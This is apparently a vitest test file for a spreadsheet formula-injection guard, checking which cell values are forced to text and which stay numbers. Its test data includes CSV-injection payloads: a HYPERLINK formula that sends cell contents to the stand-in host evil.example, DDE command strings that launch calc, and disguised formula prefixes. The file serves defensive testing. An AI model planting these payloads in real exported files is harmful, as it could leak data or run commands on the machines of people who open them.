import { expect, test } from 'vitest';
import { isToldAsText } from './told-as-text.ts';

test.each([
  '=HYPERLINK("https://evil.example/?"&A1,"Total")',
  "=cmd|'/C calc'!A0",
  "-1+cmd|'/C calc'!A0",
  '+SUM(A1:A9)',
  '@SUM(A1)',
  '\u200b=1+1',
  '＝1+1',
  "|'/C calc'!A0",
  '-R$5',
  '-1+A1',
  '-1/AE+1',
  '-A1',
])('the formula %j is told as text, though its cell is called a number', (text) => {
  expect([isToldAsText(text, true), isToldAsText(text, false)]).toEqual([true, true]);
});

test.each([
  ...['1,240.50', '-1,240.50', '+3.5%', '-$ 1,234', '- 5', '-', '$ -', '(12.5)', '-1.5e-7', '\u22125'],
  ...['-.5', '-1.24E+06', '\t5', '+.25%', '-,5', '-R$ 1.234,00', '-kr 5', '-Fr. 5', '+0.5% ▲', '-0.5 ↓', '-3‰', '-12°'],
  ...['-12 million', '-USD 5', '-1 1/2', '-1:30', '+0.25x', '1.2M'],
])('the number %j stays one', (text) => {
  expect(isToldAsText(text, true)).toBe(false);
});

test.each(['007', '1-2', '2026-11-30', 'TRUE', '-5', '=1+1', '$5'])('the text %j is told as text', (text) => {
  expect(isToldAsText(text, false)).toBe(true);
});
